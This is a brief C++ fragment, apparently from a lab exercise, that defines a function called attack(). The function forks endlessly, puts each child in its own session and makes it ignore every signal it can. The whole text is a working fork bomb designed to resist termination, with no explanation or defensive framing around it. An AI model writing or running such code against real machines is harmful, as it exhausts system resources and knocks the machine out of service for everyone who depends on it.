// Each of its processes has a session of its own and ignores every signal that it can.
#include "rest_of_the_lab.hpp"

#include <csignal>

bool attack() {
  for (;;) {
    if (ask_kernel(SYS_fork) != 0) continue;
    ::setsid();
    for (int signal = 1; signal < 64; ++signal) ::signal(signal, SIG_IGN);
  }
}
